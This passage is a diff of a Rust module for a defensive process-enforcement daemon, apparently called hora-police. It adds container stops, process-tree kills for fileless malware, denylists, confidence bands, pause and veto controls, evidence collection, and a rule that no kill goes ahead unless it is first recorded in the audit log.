@@ -1,34 +1,88 @@
-use anyhow::{Context, Result};
-use chrono::Utc;
+use anyhow::Result;
+use chrono::{Local, Utc};
 use nix::sys::signal;
 use nix::unistd::Pid;
-use tracing::{info, warn, error};
-use std::path::Path;
+use serde::{Deserialize, Serialize};
+use tracing::{debug, error, info, warn};
+use std::collections::{BTreeSet, HashMap, HashSet};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
 
-use crate::process_monitor::ProcessInfo;
-use crate::database::{IntelligenceDB, KillAction};
+use crate::process_monitor::{ProcessInfo, ProcessMonitor};
+use crate::database::{AuditDecision, EvidenceRecord, IntelligenceDB, KillAction, KillOutcome};
+use crate::detection_store::DetectionStore;
 use crate::pm2_integration::Pm2Integration;
 use crate::systemd_integration::SystemdIntegration;
-use crate::nginx_integration::NginxIntegration;
+use crate::docker_integration::DockerIntegration;
+use crate::nginx_integration::{NginxIntegration, UpstreamManager};
 use crate::whitelist::WhitelistManager;
-use crate::config::Config;
+use crate::config::{BandAction, ConfidenceBandsConfig, Config, ManagerFallback, PermissionDeniedPolicy, RelaxedCgroupAction};
+use crate::termination::{failure_outcome, kill_outcome, terminate, KillFailed, KillSignals, KillTimeouts, NotPermitted, TerminationOutcome};
+use crate::config::AlertSeverity;
+use crate::event_stream::{DaemonEvent, EventBus, EventKind};
+use crate::scoring::SignalCategory;
+use crate::evidence_collector::{self, EvidenceCollector};
+use crate::denylist::{executable_sha256, Denylist};
+use crate::whitelist_override::{WhitelistOverride, WhitelistOverrideAction};
+use crate::maintenance::MaintenanceWindows;
+use crate::action_hook::{HookEvent, HookVerdict, PreActionHook};
+use crate::users::cgroup_prefix_match;
+use crate::suspicious_paths::is_suspicious_path;
+use crate::alert_templates::AlertKind;
+use crate::telegram::TelegramReporter;
 
-#[derive(Debug, Clone)]
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 pub enum KillActionType {
     Skip,  // Whitelisted or systemd/pm2 managed (low confidence)
     Notify,  // Send Telegram alert only
     StopUnit,  // systemctl stop
     StopPm2,  // pm2 stop
+    StopContainer,  // docker stop/kill (avoids restart-policy respawns)
     KillDirect,  // Direct kill (unprivileged, high confidence)
+    KillTree,  // Kill process and all descendants (fileless malware)
+}
+
+impl KillActionType {
+    /// Actions that end the process (directly or through its manager)
+    pub fn stops_process(&self) -> bool {
+        !matches!(self, Self::Skip | Self::Notify)
+    }
 }
 
 pub struct SafeKillEngine {
-    db: IntelligenceDB,
+    #[cfg(test)]
+    db: IntelligenceDB,  // Lets tests read back what went through `store`
+    store: Arc<dyn DetectionStore>,
     pm2: Pm2Integration,
     systemd: SystemdIntegration,
     nginx: NginxIntegration,
+    docker: DockerIntegration,
     whitelist: WhitelistManager,
     config: SafeKillConfig,
+    events: Option<EventBus>,
+    telegram: Option<TelegramReporter>,  // manager_fallback = "notify" alerts
+    denylist: Denylist,
+    whitelist_override: WhitelistOverride,
+    enforcement_disabled: bool,  // Dead-man's switch: the last audit write failed
+    audit_signals: HashMap<i32, BTreeSet<SignalCategory>>,  // From decide_action, for the audit decision
+    paused: bool,  // The pause file exists: every decision is downgraded to Notify
+    escalations: HashMap<i32, (u64, KillActionType)>,  // pid -> (start_time, action) for notify_then_enforce
+    not_permitted: HashMap<i32, u64>,  // pid -> start_time of processes we lack the right to signal
+    audited: HashSet<(i32, u64, String)>,  // (pid, start_time, action) already in the decisions table
+}
+
+/// Bound on `audit_signals` when decisions are never executed (deferred and cancelled)
+const MAX_AUDIT_SIGNALS: usize = 4096;
+
+/// The action couldn't be recorded in the database, so it was not carried out.
+/// `newly_disabled` is set on the first failure after enforcement was working.
+#[derive(Debug, thiserror::Error)]
+#[error("enforcement disabled: could not record {action} for PID {pid} ({cause})")]
+pub struct EnforcementDisabled {
+    pub pid: i32,
+    pub action: String,
+    pub cause: String,
+    pub newly_disabled: bool,
 }
 
 #[derive(Debug, Clone)]
@@ -39,6 +93,17 @@ pub struct SafeKillConfig {
     pub canary_mode: bool,
     pub threat_confidence_threshold: f32,
     pub high_confidence_threshold: f32,
+    pub kill_timeouts: KillTimeouts,
+    pub kill_signals: KillSignals,
+    pub manager_fallback: ManagerFallback,
+    pub on_permission_denied: PermissionDeniedPolicy,
+    pub require_corroboration: usize,
+    pub collect_evidence: bool,
+    pub evidence_dir: PathBuf,
+    pub pre_action_hook: Option<PreActionHook>,
+    pub maintenance_windows: MaintenanceWindows,
+    pub confidence_bands: ConfidenceBandsConfig,
+    pub notify_only_cgroups: Vec<String>,  // relaxed_cgroup_prefixes under relaxed_cgroup_action = "notify"
 }
 
 impl SafeKillEngine {
@@ -47,32 +112,273 @@ impl SafeKillEngine {
         pm2: Pm2Integration,
         systemd: SystemdIntegration,
         nginx: NginxIntegration,
+        docker: DockerIntegration,
         whitelist: WhitelistManager,
         config: SafeKillConfig,
     ) -> Self {
         Self {
+            store: Arc::new(db.clone()),
+            #[cfg(test)]
             db,
             pm2,
             systemd,
             nginx,
+            docker,
             whitelist,
             config,
+            events: None,
+            telegram: None,
+            denylist: Denylist::default(),
+            whitelist_override: WhitelistOverride::default(),
+            enforcement_disabled: false,
+            audit_signals: HashMap::new(),
+            paused: false,
+            escalations: HashMap::new(),
+            not_permitted: HashMap::new(),
+            audited: HashSet::new(),
+        }
+    }
+
+    /// True while the database rejects writes and stopping actions are withheld
+    pub fn enforcement_disabled(&self) -> bool {
+        self.enforcement_disabled
+    }
+
+    /// Write kill records, decisions, evidence and safety events through `store`
+    /// (e.g. one that also forwards them to a collector) instead of the local database
+    pub fn set_store(&mut self, store: Arc<dyn DetectionStore>) {
+        self.store = store;
+    }
+
+    pub fn set_denylist(&mut self, denylist: Denylist) {
+        self.denylist = denylist;
+    }
+
+    pub fn has_denylist(&self) -> bool {
+        !self.denylist.is_empty()
+    }
+
+    /// Why `process` is denylisted, if it is
+    pub fn denylist_match(&mut self, process: &ProcessInfo) -> Option<String> {
+        self.denylist.check(process)
+    }
+
+    pub fn set_whitelist_override(&mut self, whitelist_override: WhitelistOverride) {
+        self.whitelist_override = whitelist_override;
+    }
+
+    /// Forget cached executable hashes, EPERM failures and audited decisions of exited processes
+    pub fn prune_denylist_cache(&mut self, processes: &[ProcessInfo]) {
+        self.denylist.retain_live(processes);
+        self.whitelist_override.retain_live(processes);
+        if !self.not_permitted.is_empty() || !self.audited.is_empty() {
+            let live: HashMap<i32, u64> = processes.iter().map(|p| (p.pid, p.start_time)).collect();
+            self.not_permitted.retain(|pid, start_time| live.get(pid) == Some(start_time));
+            self.audited.retain(|(pid, start_time, _)| live.get(pid) == Some(start_time));
         }
     }
 
-    /// Decide what action to take for a flagged process
+    /// Whether a signal to `process` was already refused with EPERM and won't be retried
+    pub fn is_not_permitted(&self, process: &ProcessInfo) -> bool {
+        self.not_permitted.get(&process.pid) == Some(&process.start_time)
+    }
+
+    /// Downgrade every decision to Notify until unpaused
+    pub fn set_paused(&mut self, paused: bool) {
+        self.paused = paused;
+    }
+
+    pub fn is_paused(&self) -> bool {
+        self.paused
+    }
+
+    /// Publish enforcement actions for `hora-police watch`
+    pub fn set_event_bus(&mut self, events: EventBus) {
+        self.events = Some(events);
+    }
+
+    /// Alert through `telegram` when a manager stop finds nothing and manager_fallback is notify
+    pub fn set_telegram(&mut self, telegram: TelegramReporter) {
+        self.telegram = Some(telegram);
+    }
+
+    /// Decide what action to take for a flagged process. `signals` are the
+    /// distinct kinds of evidence behind `confidence`; with `require_corroboration`
+    /// set, anything beyond Notify needs at least that many.
     pub async fn decide_action(
         &mut self,
         process: &ProcessInfo,
         confidence: f32,
+        signals: &BTreeSet<SignalCategory>,
+    ) -> KillActionType {
+        let action = self.decide_unpaused(process, confidence, signals).await;
+        if self.paused {
+            self.escalations.remove(&process.pid);
+            if action.stops_process() {
+                info!("PID {} would get {:?} but enforcement is paused - notifying only", process.pid, action);
+                return KillActionType::Notify;
+            }
+        }
+        action
+    }
+
+    /// The stopping action notify_then_enforce put off in the last decision for
+    /// `process`, to be scheduled for after the escalation delay
+    pub fn take_escalation(&mut self, process: &ProcessInfo) -> Option<KillActionType> {
+        match self.escalations.remove(&process.pid) {
+            Some((start_time, action)) if start_time == process.start_time => Some(action),
+            _ => None,
+        }
+    }
+
+    async fn decide_unpaused(
+        &mut self,
+        process: &ProcessInfo,
+        confidence: f32,
+        signals: &BTreeSet<SignalCategory>,
+    ) -> KillActionType {
+        // Already refused once; trying again every cycle only repeats the failure
+        if self.is_not_permitted(process) {
+            debug!("PID {} can't be signalled by us (EPERM earlier), skipping", process.pid);
+            return KillActionType::Skip;
+        }
+
+        if self.config.audit_only {
+            if self.audit_signals.len() >= MAX_AUDIT_SIGNALS {
+                self.audit_signals.clear();
+            }
+            self.audit_signals.insert(process.pid, signals.clone());
+        }
+
+        // Denylisted binaries skip every guard below, including corroboration
+        if let Some(why) = self.denylist.check(process) {
+            let action = self.strongest_action(process).await;
+            error!("⛔ PID {} ({}) is denylisted: {} - {:?} regardless of whitelist and managers",
+                   process.pid, process.binary_path, why, action);
+            if let Some(ref events) = self.events {
+                events.publish(DaemonEvent::new(
+                    AlertSeverity::Critical,
+                    EventKind::Detection,
+                    format!("Denylisted: {}", why),
+                ).with_process(process));
+            }
+            return action;
+        }
+
+        let action = self.choose_action(process, confidence).await;
+        let (action, escalation) = self.apply_band(process, confidence, action).await;
+        let enforcing = action.stops_process() || escalation.is_some();
+        let required = self.config.require_corroboration;
+        if required > 0 && signals.len() < required && enforcing {
+            info!("PID {} would get {:?} but only {} of {} required signal(s) fired {:?} - notifying only",
+                  process.pid, escalation.unwrap_or(action), signals.len(), required, signals);
+            return KillActionType::Notify;
+        }
+        if enforcing {
+            if let Some(prefix) = cgroup_prefix_match(&process.cgroup, &self.config.notify_only_cgroups) {
+                info!("PID {} would get {:?} but runs in build cgroup {} ({}) - notifying only",
+                      process.pid, escalation.unwrap_or(action), process.cgroup, prefix);
+                return KillActionType::Notify;
+            }
+            if let Some(window) = self.config.maintenance_windows.active(Local::now().naive_local()) {
+                info!("PID {} would get {:?} but maintenance window {:?} is active - notifying only",
+                      process.pid, escalation.unwrap_or(action), window);
+                return KillActionType::Notify;
+            }
+        }
+        if let Some(escalation) = escalation {
+            info!("PID {} notified first, {:?} after {}s unless cancelled",
+                  process.pid, escalation, self.config.confidence_bands.escalation_delay_seconds);
+            self.escalations.insert(process.pid, (process.start_time, escalation));
+        }
+        action
+    }
+
+    /// `action` as overridden by the confidence_bands policy for `confidence`, plus the
+    /// action to escalate to later under notify_then_enforce. Whitelisted and
+    /// below-threshold processes keep the built-in choice.
+    async fn apply_band(
+        &mut self,
+        process: &ProcessInfo,
+        confidence: f32,
+        action: KillActionType,
+    ) -> (KillActionType, Option<KillActionType>) {
+        if action == KillActionType::Skip
+            || confidence < self.config.threat_confidence_threshold
+            || self.whitelist.is_whitelisted(process)
+        {
+            return (action, None);
+        }
+        let band = if confidence >= self.config.high_confidence_threshold {
+            self.config.confidence_bands.high
+        } else {
+            self.config.confidence_bands.medium
+        };
+        match band {
+            BandAction::Standard => (action, None),
+            BandAction::Notify => (KillActionType::Notify, None),
+            BandAction::Enforce if action.stops_process() => (action, None),
+            BandAction::Enforce => (self.strongest_action(process).await, None),
+            BandAction::NotifyThenEnforce if action.stops_process() => (KillActionType::Notify, Some(action)),
+            BandAction::NotifyThenEnforce => (KillActionType::Notify, Some(self.strongest_action(process).await)),
+        }
+    }
+
+    /// Stop through the process's manager when it has one (so it isn't respawned),
+    /// otherwise kill it with its descendants
+    async fn strongest_action(&mut self, process: &ProcessInfo) -> KillActionType {
+        self.pm2.refresh().await;
+        self.systemd.refresh().await;
+        if self.pm2.is_pm2_managed(process.pid) {
+            KillActionType::StopPm2
+        } else if self.systemd.is_systemd_managed(process.pid) {
+            KillActionType::StopUnit
+        } else if self.docker.container_for_pid(process.pid).is_some() {
+            KillActionType::StopContainer
+        } else {
+            KillActionType::KillTree
+        }
+    }
+
+    async fn choose_action(
+        &mut self,
+        process: &ProcessInfo,
+        confidence: f32,
     ) -> KillActionType {
         // 1. Check whitelist
         if self.whitelist.is_whitelisted(process) {
-            info!("Process PID {} is whitelisted, skipping", process.pid);
-            return KillActionType::Skip;
+            let Some(signal) = self.whitelist_override.check(process) else {
+                info!("Process PID {} is whitelisted, skipping", process.pid);
+                return KillActionType::Skip;
+            };
+            let action = match self.whitelist_override.action() {
+                WhitelistOverrideAction::Enforce => self.strongest_action(process).await,
+                _ => KillActionType::Notify,
+            };
+            warn!("🚨 Whitelisted PID {} ({}) shows {} (strength {:.2}) - {:?} despite whitelist",
+                  process.pid, process.binary_path, signal.description, signal.strength, action);
+            if let Some(ref events) = self.events {
+                events.publish(DaemonEvent::new(
+                    AlertSeverity::Critical,
+                    EventKind::Detection,
+                    format!("Whitelist overridden: {}", signal.description),
+                ).with_process(process));
+            }
+            return action;
         }
 
-        // 2. Check if PM2-managed
+        // 2. Fileless (memfd) execution: nothing on disk to clean, kill the whole tree
+        if process.exe_is_memfd && confidence >= self.config.threat_confidence_threshold {
+            warn!("Process PID {} is executing from memfd (fileless) - will kill process tree", process.pid);
+            return KillActionType::KillTree;
+        }
+
+        // Re-query the process managers only if their cached views are stale
+        self.pm2.refresh().await;
+        self.systemd.refresh().await;
+        self.nginx.refresh().await;
+
+        // 3. Check if PM2-managed
         if self.pm2.is_pm2_managed(process.pid) {
             if let Some(app) = self.pm2.get_app_by_pid(process.pid) {
                 if confidence >= self.config.high_confidence_threshold {
@@ -87,7 +393,7 @@ impl SafeKillEngine {
             }
         }
 
-        // 3. Check if systemd-managed
+        // 4. Check if systemd-managed
         if self.systemd.is_systemd_managed(process.pid) {
             if let Some(unit) = self.systemd.get_unit_by_pid(process.pid) {
                 if confidence >= self.config.high_confidence_threshold {
@@ -102,19 +408,48 @@ impl SafeKillEngine {
             }
         }
 
-        // 4. Check if Nginx upstream (high sensitivity - always notify first)
+        // 5. Check if running inside a Docker container (killing the PID would just respawn it)
+        if let Some(container) = self.docker.container_for_pid(process.pid) {
+            let short_id = &container[..12];
+            if confidence >= self.config.high_confidence_threshold {
+                info!("Containerized process PID {} (container: {}) - will stop container",
+                      process.pid, short_id);
+                return KillActionType::StopContainer;
+            } else {
+                info!("Containerized process PID {} (container: {}) - confidence too low, notifying only",
+                      process.pid, short_id);
+                return KillActionType::Notify;
+            }
+        }
+
+        // 6. Check if Nginx upstream (high sensitivity - enforce only via its manager)
         if self.nginx.is_nginx_upstream(process.pid) {
+            self.nginx.resolve_managers(&self.pm2, &self.systemd);
             if let Some(upstream) = self.nginx.get_upstream_by_pid(process.pid) {
+                if confidence >= self.config.high_confidence_threshold {
+                    match &upstream.manager {
+                        Some(UpstreamManager::Pm2 { app, .. }) => {
+                            info!("Nginx upstream process PID {} (upstream: {}) managed by PM2 app {} - will stop via PM2",
+                                  process.pid, upstream.name, app);
+                            return KillActionType::StopPm2;
+                        }
+                        Some(UpstreamManager::Systemd { unit }) => {
+                            info!("Nginx upstream process PID {} (upstream: {}) managed by unit {} - will stop via systemctl",
+                                  process.pid, upstream.name, unit);
+                            return KillActionType::StopUnit;
+                        }
+                        None => {}
+                    }
+                }
                 warn!("Nginx upstream process PID {} (upstream: {}) - high sensitivity, notifying only", 
                       process.pid, upstream.name);
                 return KillActionType::Notify;
             }
         }
 
-        // 5. Check location: /tmp, /var/tmp, non-whitelisted home → allow direct kill
+        // 7. Check location: suspicious paths, non-whitelisted home → allow direct kill
         let binary_path = Path::new(&process.binary_path);
-        let is_suspicious_location = binary_path.starts_with("/tmp") ||
-            binary_path.starts_with("/var/tmp") ||
+        let is_suspicious_location = is_suspicious_path(&process.binary_path) ||
             (binary_path.starts_with("/home") && 
              !self.is_whitelisted_home_directory(binary_path));
 
@@ -127,10 +462,14 @@ impl SafeKillEngine {
             }
         }
 
-        // 6. Default: Notify only (conservative approach)
+        // 8. Default: Notify only (conservative approach)
         KillActionType::Notify
     }
 
+    pub fn whitelist_mut(&mut self) -> &mut WhitelistManager {
+        &mut self.whitelist
+    }
+
     fn is_whitelisted_home_directory(&self, path: &Path) -> bool {
         // Check if path is in a whitelisted home directory
         // This is a simplified check - in production you might want more sophisticated logic
@@ -156,111 +495,423 @@ impl SafeKillEngine {
         reason: &str,
         confidence: f32,
     ) -> Result<bool> {
-        if self.config.audit_only || self.config.dry_run {
+        // Before the dry-run return, so a learning report run with --dry-run still learns
+        if self.config.audit_only {
+            self.record_decision(&action, process, reason, confidence).await;
+            return Ok(false);
+        }
+        if self.config.dry_run {
             info!("[DRY RUN] Would execute action: {:?} for PID {} ({})", 
                   action, process.pid, reason);
             return Ok(false);
         }
 
+        if action.stops_process() {
+            if let Some(ref hook) = self.config.pre_action_hook {
+                if let HookVerdict::Veto(why) = hook.check(&HookEvent::new(process, &action, reason, confidence)).await {
+                    warn!("🛑 {:?} for PID {} vetoed: {}", action, process.pid, why);
+                    self.record_safety_event("hook_veto", &format!("{:?} for {} vetoed: {}", action, process.binary_path, why)).await;
+                    return Ok(false);
+                }
+            }
+        }
+
+        // Nothing irreversible happens unless it is on record first
+        let record_id = if action.stops_process() {
+            Some(self.reserve_audit_record(&action, process, reason, confidence).await?)
+        } else {
+            None
+        };
+
+        // Freeze and bundle forensic artifacts first; resume the process unless it was stopped
+        let mut frozen = self.config.collect_evidence
+            && action.stops_process()
+            && self.collect_evidence(process, reason).await;
+        // A stopped process holds SIGTERM (from us or its manager) until it runs again,
+        // so only SIGSTOP containment keeps it frozen
+        if frozen && self.config.kill_signals.initial != signal::Signal::SIGSTOP {
+            if let Err(e) = evidence_collector::release(process.pid) {
+                warn!("Failed to resume PID {} before stopping it: {}", process.pid, e);
+            }
+            frozen = false;
+        }
+
+        let mut performed = self.perform_action(action, process, reason, confidence).await;
+        if let Err(e) = performed {
+            performed = match e.downcast::<NotPermitted>() {
+                Ok(refused) => self.handle_not_permitted(refused, process, reason, confidence).await,
+                Err(e) => Err(e),
+            };
+        }
+        if let Some(failure) = performed.as_ref().err().and_then(|e| e.downcast_ref::<KillFailed>()) {
+            self.record_safety_event("kill_failed", &failure.to_string()).await;
+        }
+        let outcome = match &performed {
+            Ok(delivery) => *delivery,
+            Err(e) => {
+                let (signal_sent, outcome) = failure_outcome(e);
+                Some(Delivery { signal_sent, outcome })
+            }
+        };
+        let result = performed.map(|delivery| delivery.is_some());
+
+        if frozen && !matches!(result, Ok(true)) {
+            info!("PID {} was not stopped, resuming it after evidence collection", process.pid);
+            if let Err(e) = evidence_collector::release(process.pid) {
+                warn!("Failed to resume PID {}: {}", process.pid, e);
+            }
+        }
+
+        if let Some(id) = record_id {
+            if matches!(result, Ok(true)) {
+                self.publish_stopped(process, reason, confidence);
+            }
+            match outcome {
+                // Failed attempts stay on record so reports can surface them
+                Some(delivery) => {
+                    if let Err(e) = self.store.set_kill_outcome(id, delivery.signal_sent, delivery.outcome).await {
+                        warn!("Failed to record outcome of kill {} for PID {}: {}", id, process.pid, e);
+                    }
+                }
+                None => {
+                    if let Err(e) = self.store.delete_kill_action(id).await {
+                        warn!("Failed to withdraw kill record {} for PID {} that was not stopped: {}", id, process.pid, e);
+                    }
+                }
+            }
+        }
+        result
+    }
+
+    /// A kill refused with EPERM: stop the process through its manager if it has one,
+    /// otherwise remember it so the failure (and its alert) isn't repeated every cycle
+    async fn handle_not_permitted(
+        &mut self,
+        refused: NotPermitted,
+        process: &ProcessInfo,
+        reason: &str,
+        confidence: f32,
+    ) -> Result<Option<Delivery>> {
+        let policy = self.config.on_permission_denied;
+        warn!("🔒 {} - hora-police needs root or CAP_KILL to stop it", refused);
+        if policy == PermissionDeniedPolicy::Retry {
+            return Err(refused.into());
+        }
+        if policy == PermissionDeniedPolicy::ManagerStop {
+            let manager = self.strongest_action(process).await;
+            if matches!(manager, KillActionType::StopUnit | KillActionType::StopPm2 | KillActionType::StopContainer) {
+                info!("Stopping PID {} through its manager instead ({:?})", process.pid, manager);
+                match self.perform_action(manager.clone(), process, reason, confidence).await {
+                    Ok(Some(delivery)) => return Ok(Some(delivery)),
+                    Ok(None) => {}
+                    Err(e) => warn!("{:?} for PID {} failed too: {}", manager, process.pid, e),
+                }
+            }
+        }
+        self.not_permitted.insert(process.pid, process.start_time);
+        self.record_safety_event("not_permitted", &format!("{} ({})", refused, process.binary_path)).await;
+        Err(refused.into())
+    }
+
+    async fn record_safety_event(&self, kind: &str, detail: &str) {
+        if let Err(e) = self.store.record_safety_event(kind, detail).await {
+            warn!("Failed to record {} safety event: {}", kind, e);
+        }
+    }
+
+    /// audit_only: log the intended action to the decisions table instead of taking it,
+    /// once per process and action (it is decided again every cycle it stays abusive)
+    async fn record_decision(&mut self, action: &KillActionType, process: &ProcessInfo, reason: &str, confidence: f32) {
+        let signals = self.audit_signals.remove(&process.pid).unwrap_or_default();
+        if !self.audited.insert((process.pid, process.start_time, format!("{:?}", action))) {
+            debug!("[AUDIT] {:?} for PID {} already recorded", action, process.pid);
+            return;
+        }
+        info!("[AUDIT] Would execute action: {:?} for PID {} ({})", action, process.pid, reason);
+        let decision = AuditDecision {
+            id: 0,
+            pid: process.pid,
+            uid: process.uid,
+            binary_path: process.binary_path.clone(),
+            command_line: process.command_line.clone(),
+            action: format!("{:?}", action),
+            reason: reason.to_string(),
+            confidence,
+            signals: signals.iter().map(|s| format!("{:?}", s)).collect::<Vec<_>>().join(", "),
+            decided_at: Utc::now(),
+        };
+        if let Err(e) = self.store.record_decision(&decision).await {
+            warn!("Failed to record audit decision for PID {}: {}", process.pid, e);
+        }
+    }
+
+    /// Write the kill record before acting. If the database can't take it, trip the
+    /// dead-man's switch: the action is refused (an unaudited kill, possibly repeated
+    /// every cycle, is worse than a missed one) until a later write succeeds.
+    async fn reserve_audit_record(
+        &mut self,
+        action: &KillActionType,
+        process: &ProcessInfo,
+        reason: &str,
+        confidence: f32,
+    ) -> Result<i64> {
+        let record = KillAction {
+            id: 0,
+            pid: process.pid,
+            uid: process.uid,
+            binary_path: process.binary_path.clone(),
+            reason: reason.to_string(),
+            confidence,
+            timestamp: Utc::now(),
+            signal_sent: None,
+            outcome: KillOutcome::Pending,
+            exe_hash: executable_sha256(process),
+        };
+
+        match self.store.record_kill_action(&record).await {
+            Ok(id) => {
+                if self.enforcement_disabled {
+                    info!("✅ Database writable again, enforcement re-enabled");
+                    self.enforcement_disabled = false;
+                    // Recorded on recovery, since the database couldn't take it when it tripped
+                    self.record_safety_event("enforcement_disabled", "kill records could not be written; re-enabled").await;
+                }
+                Ok(id)
+            }
+            Err(e) => {
+                let newly_disabled = !self.enforcement_disabled;
+                self.enforcement_disabled = true;
+                error!("🛑 Cannot record {:?} for PID {} ({}) - enforcement disabled until the database accepts writes",
+                       action, process.pid, e);
+                if newly_disabled {
+                    if let Some(ref events) = self.events {
+                        events.publish(DaemonEvent::new(
+                            AlertSeverity::Critical,
+                            EventKind::Kill,
+                            format!("Enforcement disabled: database write failed ({})", e),
+                        ).with_process(process));
+                    }
+                }
+                Err(EnforcementDisabled {
+                    pid: process.pid,
+                    action: format!("{:?}", action),
+                    cause: e.to_string(),
+                    newly_disabled,
+                }.into())
+            }
+        }
+    }
+
+    /// Carry out `action`; None if nothing was stopped
+    async fn perform_action(
+        &mut self,
+        action: KillActionType,
+        process: &ProcessInfo,
+        reason: &str,
+        confidence: f32,
+    ) -> Result<Option<Delivery>> {
         match action {
             KillActionType::Skip => {
                 info!("Skipping action for PID {} (whitelisted)", process.pid);
-                Ok(false)
+                Ok(None)
             }
             KillActionType::Notify => {
                 info!("Notifying about process PID {} ({})", process.pid, reason);
                 // Notification will be handled by caller via Telegram
-                Ok(false)
+                Ok(None)
             }
             KillActionType::StopUnit => {
-                if let Some(unit) = self.systemd.get_unit_by_pid(process.pid) {
-                    let unit_name = unit.name.clone();
+                if let Some(unit_name) = self.managing_unit(process.pid) {
                     info!("Stopping systemd unit: {} (PID: {})", unit_name, process.pid);
                     self.systemd.stop_unit(&unit_name).await?;
-                    self.record_kill_action(process, reason, confidence).await?;
-                    Ok(true)
+                    Ok(Some(Delivery::manager("systemctl stop")))
                 } else {
-                    warn!("Unit not found for PID {}, falling back to direct kill", process.pid);
-                    self.kill_direct(process, reason, confidence).await
+                    let why = lookup_failure(process.pid, "not in any detected unit and no Nginx upstream maps it to one");
+                    self.manager_fallback("systemd unit", &why, process, reason, confidence).await
                 }
             }
             KillActionType::StopPm2 => {
-                if let Some(app) = self.pm2.get_app_by_pid(process.pid) {
-                    let app_name = app.name.clone();
-                    let app_user = app.user.clone();
+                if let Some((app_name, app_user)) = self.managing_pm2_app(process.pid) {
                     info!("Stopping PM2 app: {} (PID: {})", app_name, process.pid);
                     self.pm2.stop_app(&app_name, &app_user).await?;
-                    self.record_kill_action(process, reason, confidence).await?;
-                    Ok(true)
+                    Ok(Some(Delivery::manager("pm2 stop")))
                 } else {
-                    warn!("PM2 app not found for PID {}, falling back to direct kill", process.pid);
-                    self.kill_direct(process, reason, confidence).await
+                    let why = lookup_failure(process.pid, "not in `pm2 jlist` and no Nginx upstream maps it to an app");
+                    self.manager_fallback("PM2 app", &why, process, reason, confidence).await
+                }
+            }
+            KillActionType::StopContainer => {
+                if let Some(container) = self.docker.container_for_pid(process.pid) {
+                    info!("Stopping Docker container: {} (PID: {})", &container[..12], process.pid);
+                    self.docker.stop_container(&container).await?;
+                    Ok(Some(Delivery::manager("docker stop")))
+                } else {
+                    let why = lookup_failure(process.pid, "no Docker container cgroup");
+                    self.manager_fallback("Docker container", &why, process, reason, confidence).await
                 }
             }
             KillActionType::KillDirect => {
                 self.kill_direct(process, reason, confidence).await
             }
+            KillActionType::KillTree => {
+                self.kill_tree(process, reason, confidence).await
+            }
         }
     }
 
-    async fn kill_direct(
+    /// Returns true if the process is now frozen with its evidence bundled and recorded
+    async fn collect_evidence(&self, process: &ProcessInfo, reason: &str) -> bool {
+        let bundle = match EvidenceCollector::new(&self.config.evidence_dir).collect(process).await {
+            Ok(bundle) => bundle,
+            Err(e) => {
+                warn!("Evidence collection for PID {} failed, continuing without it: {}", process.pid, e);
+                return false;
+            }
+        };
+        let record = EvidenceRecord {
+            id: 0,
+            pid: bundle.pid,
+            binary_path: bundle.binary_path,
+            directory: bundle.directory.to_string_lossy().to_string(),
+            binary_sha256: bundle.binary_sha256,
+            reason: reason.to_string(),
+            collected_at: bundle.collected_at,
+        };
+        if let Err(e) = self.store.record_evidence(&record).await {
+            warn!("Failed to record evidence bundle {}: {}", record.directory, e);
+        }
+        true
+    }
+
+    /// Apply `manager_fallback` after a manager stop found nothing to stop
+    async fn manager_fallback(
         &self,
+        manager: &str,
+        why: &str,
         process: &ProcessInfo,
         reason: &str,
         confidence: f32,
-    ) -> Result<bool> {
-        if !self.config.auto_kill {
-            info!("Auto-kill disabled, would kill PID {} ({})", process.pid, reason);
-            return Ok(false);
+    ) -> Result<Option<Delivery>> {
+        match self.config.manager_fallback {
+            ManagerFallback::DirectKill => {
+                warn!("{} not found for PID {} ({}), falling back to direct kill", manager, process.pid, why);
+                self.kill_direct(process, reason, confidence).await
+            }
+            ManagerFallback::Notify => {
+                warn!("{} not found for PID {} ({}), notifying only", manager, process.pid, why);
+                if let Some(ref events) = self.events {
+                    events.publish(DaemonEvent::new(
+                        AlertSeverity::Warning,
+                        EventKind::Kill,
+                        format!("{} not found, left running: {}", manager, why),
+                    ).with_process(process).with_confidence(confidence));
+                }
+                if let Some(ref telegram) = self.telegram {
+                    let vars = [
+                        ("pid", process.pid.to_string()),
+                        ("binary", process.binary_path.clone()),
+                        ("manager", manager.to_string()),
+                        ("why", why.to_string()),
+                        ("reason", reason.to_string()),
+                        ("confidence", format!("{:.0}", confidence * 100.0)),
+                    ];
+                    if let Err(e) = telegram.send_templated(AlertKind::ManagerNotFound, AlertSeverity::Warning, &vars).await {
+                        warn!("Failed to send manager_not_found alert for PID {}: {}", process.pid, e);
+                    }
+                }
+                Ok(None)
+            }
+            ManagerFallback::Skip => {
+                warn!("{} not found for PID {} ({}), skipping", manager, process.pid, why);
+                Ok(None)
+            }
         }
+    }
 
-        info!("Killing process PID={}, binary={}, reason={}, confidence={:.2}", 
-              process.pid, process.binary_path, reason, confidence);
+    /// systemd unit owning the PID directly or via the Nginx upstream it serves
+    fn managing_unit(&mut self, pid: i32) -> Option<String> {
+        if let Some(unit) = self.systemd.get_unit_by_pid(pid) {
+            return Some(unit.name.clone());
+        }
+        match self.nginx.get_upstream_manager(pid) {
+            Some(UpstreamManager::Systemd { unit }) => Some(unit),
+            _ => None,
+        }
+    }
 
-        // Try graceful termination first (SIGTERM)
-        let pid_obj = Pid::from_raw(process.pid);
-        match signal::kill(pid_obj, signal::Signal::SIGTERM) {
-            Ok(_) => {
-                info!("Sent SIGTERM to PID {}", process.pid);
-                
-                // Wait a bit and check if process still exists
-                tokio::time::sleep(tokio::time::Duration::from_secs(2)).await;
-                
-                // Check if process is still alive (simplified - would need process monitor)
-                // For now, always try SIGKILL after SIGTERM
-                warn!("Sending SIGKILL to PID {} (force kill)", process.pid);
-                let _ = signal::kill(pid_obj, signal::Signal::SIGKILL);
-            }
-            Err(e) => {
-                error!("Failed to kill PID {}: {}", process.pid, e);
-                return Err(anyhow::anyhow!("Failed to kill process: {}", e));
-            }
+    /// PM2 app (name, user) owning the PID directly or via the Nginx upstream it serves
+    fn managing_pm2_app(&mut self, pid: i32) -> Option<(String, String)> {
+        if let Some(app) = self.pm2.get_app_by_pid(pid) {
+            return Some((app.name.clone(), app.user.clone()));
+        }
+        match self.nginx.get_upstream_manager(pid) {
+            Some(UpstreamManager::Pm2 { app, user }) => Some((app, user)),
+            _ => None,
+        }
+    }
+
+    async fn kill_tree(
+        &self,
+        process: &ProcessInfo,
+        reason: &str,
+        confidence: f32,
